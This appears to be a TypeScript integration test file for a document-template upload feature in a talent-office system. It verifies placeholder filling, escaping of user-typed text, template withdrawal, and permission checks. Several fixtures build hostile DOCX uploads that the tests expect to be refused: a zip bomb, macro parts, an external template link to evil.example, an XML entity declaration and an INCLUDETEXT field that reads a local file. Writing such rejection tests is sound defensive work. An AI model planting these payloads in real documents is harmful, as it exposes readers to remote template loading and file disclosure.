import { randomUUID } from 'node:crypto';

import JSZip from 'jszip';

import type { TemplatesBody } from '../../plugins/talent-office/shared/contracts/documents';
import { application, createDesk, type Desk } from '../factories/desk';
import { binary } from '../factories/paper';
import { createRole } from '../factories/roles';
import { startSite, type Site } from '../setup';

type Signer = Awaited<ReturnType<Desk['signer']>>;

const mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const types = (main = mainType): string =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const rels = (more = ''): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>${more}</Relationships>`;
const external =
  '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>';
const body = (inner: string): string =>
  `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${inner}<w:sectPr/></w:body></w:document>`;
const runs = (...texts: string[]): string =>
  `<w:p>${texts.map((text) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`).join('')}</w:p>`;

const docx = async (
  inner: string,
  parts: Readonly<Record<string, string | Buffer | null>> = {},
): Promise<Buffer> => {
  const zip = new JSZip();
  const all: Record<string, string | Buffer | null> = {
    '[Content_Types].xml': types(),
    '_rels/.rels': rels(),
    'word/document.xml': body(inner),
    ...parts,
  };
  for (const [name, part] of Object.entries(all)) if (part !== null) zip.file(name, part);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
};

describe('templates that the office replaces', () => {
  let site: Site;
  let desk: Desk;
  let officer: Signer;
  let awarded: string;

  const put = async (content: Buffer, kind = 'award-letter', by: { token: string } = officer) => {
    const answer = await site.http
      .post(`/talent-office/document-kinds/${kind}/templates`)
      .auth(by.token, { type: 'bearer' })
      .set('Idempotency-Key', randomUUID())
      .attach('files', content, '核定通知.docx');
    return answer.status === 200
      ? Number(answer.body.data.number)
      : String(answer.body.error?.details?.code ?? answer.status);
  };
  const post = async (path: string, sent: object = {}) => {
    const answer = await desk.post({
      ...{ path: `/talent-office${path}`, token: officer.token, key: randomUUID(), body: sent },
    });
    return answer.status === 200 ? answer.body.data : String(answer.body.error?.details?.code);
  };
  const get = (path: string) =>
    site.http.get(`/talent-office${path}`).auth(officer.token, { type: 'bearer' });
  const textOf = async (path: string): Promise<string> => {
    const answer = await get(path)
      .buffer()
      .parse(binary as never);
    expect(answer.status).toBe(200);
    const archive = await JSZip.loadAsync(answer.body as Buffer);
    const xml = (await archive.file('word/document.xml')?.async('string')) ?? '';
    return [...xml.matchAll(/<w:t[^>]*>([^<]*)<\/w:t>/g)].map(([, said]) => said).join('');
  };
  const kindOf = async (kind: string): Promise<TemplatesBody> =>
    (await get('/document-kinds').expect(200)).body.data.find(
      (one: TemplatesBody) => one.kind === kind,
    );
  const issue = () =>
    post(`/documents/of/${application}/${awarded}`, { kind: 'award-letter', reason: '改用模板' });

  beforeAll(async () => {
    site = await startSite({ now: '2026-11-23T02:00:00.000Z' });
    desk = await createDesk(site);
    officer = await desk.signer('office');
    const leader = await desk.signer('leading-group');
    const line = await desk.line(100_000_000, officer.actor);
    const benefit = await desk.benefit({
      ...{ kind: 'award', amountExpression: '140950', line },
      ruleSet: await desk.rules('papers', application, 'subject.tier in ["A", "B"]'),
      workflow: await desk.workflow('papers', application, [{ key: 'leading-group' }]),
    });
    awarded = await desk.applied(await desk.talent(), { benefit, line });
    expect((await desk.decide(application, awarded, leader.token)).status).toBe(200);
  });
  afterAll(() => site.stop());

  it('are filled with what a paper says, and noted with it; there is no PDF of another layout', async () => {
    expect((await kindOf('award-letter')).placeholders.texts).toEqual(
      expect.arrayContaining(['recipient', 'awarded', 'awardedCapitals', 'number', 'issuedOn']),
    );
    const number = await put(
      await docx(
        runs('{num', 'ber}') + runs('{recipient}：{awarded}元（{awarded', 'Capitals}）{issuedOn}'),
      ),
    );
    expect(number).toBe(1);
    expect(await textOf('/document-kinds/award-letter/sample?format=docx')).toContain(
      '李示例：50,000.00元（伍万元整）',
    );
    const { id, number: given } = await issue();
    expect(await textOf(`/documents/${id}/file?format=docx`)).toBe(
      `${given}测试人才：1,409.50元（壹仟肆佰零玖元伍角整）2026年11月23日`,
    );
    const pdf = await get(`/documents/${id}/file?format=pdf`);
    expect(pdf.body.error.details.code).toBe('DOCUMENT_NO_PDF');
    const { body: listed } = await get(`/documents/of/${application}/${awarded}`);
    expect(listed.data.documents.at(-1).template).toBe(1);
  });

  it('repeat what is between rows', async () => {
    const rows = '{#rows}{payeeName} {gross};{/rows}{total}';
    expect(await put(await docx(runs(rows)), 'payment-letter')).toBe(1);
    expect(await textOf('/document-kinds/payment-letter/sample?format=docx')).toBe(
      '李示例 50,000.00;示例科技有限公司 1,409.50;51,409.50',
    );
  });

  it('print what people typed as text, whatever it looks like', async () => {
    const renamed = site.strapi.db.connection('talent_office_talent_profiles');
    await renamed.update({ name: '{number}<w:p/>&amp;' });
    await put(await docx(runs('{recipient}')));
    const { id } = await issue();
    expect(await textOf(`/documents/${id}/file?format=docx`)).toBe('{number}&lt;w:p/&gt;&amp;amp;');
    await site.strapi.db.connection('talent_office_talent_profiles').update({ name: '测试人才' });
  });

  it('are taken back: the built-in layout is in force again, and what was issued stays', async () => {
    const { id } = await issue();
    const before = await textOf(`/documents/${id}/file?format=docx`);
    const taken = await post('/document-kinds/award-letter/templates/take-back');
    const { inForce, history } = await kindOf('award-letter');
    expect([inForce, history[0]?.number, history[0]?.name]).toEqual([null, taken.number, null]);
    expect(await post('/document-kinds/award-letter/templates/take-back')).toBe('TEMPLATE_NONE');
    expect(await textOf(`/documents/${id}/file?format=docx`)).toBe(before);
    const again = await issue();
    expect(await textOf(`/documents/${again.id}/file?format=docx`)).toContain('本通知不是付款凭证');
  });

  const bomb = Buffer.alloc(64 * 1024 * 1024);
  it.each<[string, () => Promise<Buffer>, string]>([
    ['an unknown placeholder', () => docx(runs('{salary}')), 'TEMPLATE_PLACEHOLDER'],
    [
      'an unknown placeholder over several runs',
      () => docx(runs('{sal', 'ary', '}')),
      'TEMPLATE_PLACEHOLDER',
    ],
    ['rows that are none', () => docx(runs('{#recipient}x{/recipient}')), 'TEMPLATE_PLACEHOLDER'],
    ['a placeholder that is not closed', () => docx(runs('{recipient')), 'TEMPLATE_BROKEN'],
    ['a bomb', () => docx(runs('x'), { 'word/media/x.png': bomb }), 'TEMPLATE_TOO_LARGE'],
    [
      'a macro',
      () => docx(runs('x'), { 'word/vbaProject.bin': Buffer.from('x') }),
      'TEMPLATE_ACTIVE',
    ],
    [
      'a document with macros by its type',
      () =>
        docx(runs('x'), {
          '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml'),
        }),
      'TEMPLATE_ACTIVE',
    ],
    [
      'a link to elsewhere',
      () => docx(runs('x'), { '_rels/.rels': rels(external) }),
      'TEMPLATE_ACTIVE',
    ],
    [
      'words of its own',
      () => docx('', { 'word/document.xml': `<!DOCTYPE x [<!ENTITY a "b">]>${body(runs('&a;'))}` }),
      'TEMPLATE_ACTIVE',
    ],
    [
      'a field that reads another file',
      () => docx('<w:p><w:r><w:instrText>INCLUDETEXT "c:\\\\x"</w:instrText></w:r></w:p>'),
      'TEMPLATE_ACTIVE',
    ],
    ['what is no document', () => docx('', { 'word/document.xml': null }), 'TEMPLATE_KIND'],
    ['what is no archive', () => Promise.resolve(Buffer.from('{recipient}')), 'TEMPLATE_KIND'],
  ])('refuse %s', async (_what, make, code) => {
    const { history } = await kindOf('award-letter');
    expect(await put(await make())).toBe(code);
    expect((await kindOf('award-letter')).history).toEqual(history);
  });

  it('are replaced by nobody without the permission', async () => {
    const none = await desk.adminUser(`none-${randomUUID()}@jinlan.test`);
    const own = ['documents.read', 'documents.issue'] as const;
    const code = await createRole(site, 'no-templates', { own: [...own] });
    const role = await site.strapi.db.query('admin::role').findOne({ where: { code } });
    await site.strapi.db
      .query('admin::user')
      .update({ where: { id: none.id }, data: { roles: [role.id] } });
    expect(await put(await docx(runs('{recipient}')), 'award-letter', none)).toBe('NOT_PERMITTED');
  });
});
